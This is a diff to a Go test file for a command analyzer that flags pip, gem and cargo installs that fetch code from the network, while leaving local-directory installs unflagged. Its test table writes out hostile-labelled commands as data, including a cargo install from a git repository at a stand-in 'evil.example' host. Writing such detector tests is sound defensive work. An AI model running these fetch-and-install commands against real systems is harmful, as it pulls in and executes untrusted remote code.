@@ -1,4 +1,4 @@
-// Tests of the installer check: pip install of a package or a URL names
+// Tests of the installer check: pip, gem and cargo install of a package or a URL name
 // what runs and where it comes from; the project's own directory does not.
 package commands
 
@@ -12,8 +12,12 @@ func TestPipInstallNamesFetchedCode(t *testing.T) {
 			benign: "pip show requests"},
 		{name: "an archive URL", hostile: "pip3 install https://h.example/x.tar.gz", want: "https://h.example/x.tar.gz from h.example",
 			benign: "pip3 freeze"},
+		{name: "a gem by name", hostile: "gem install rails", want: "package rails from rubygems.org", benign: "gem list"},
+		{name: "a crate by name", hostile: "cargo install ripgrep", want: "package ripgrep from crates.io", benign: "cargo --version"},
+		{name: "a crate from a git repository", hostile: "cargo install --git https://evil.example/x tool", want: "from the repository given with --git",
+			benign: "cargo --version"},
 	})
-	for _, local := range []string{"pip install .", "pip install -e .", "pip install ./pkg"} {
+	for _, local := range []string{"pip install .", "pip install -e .", "pip install ./pkg", "cargo install --path ."} {
 		a := testAnalyze([]string{"sh", "-c", local})
 		if !a.Understood || mentions(a, "fetched from the network") {
 			t.Errorf("%s: the project's own directory is said to be fetched:\n%s", local, dump(a))
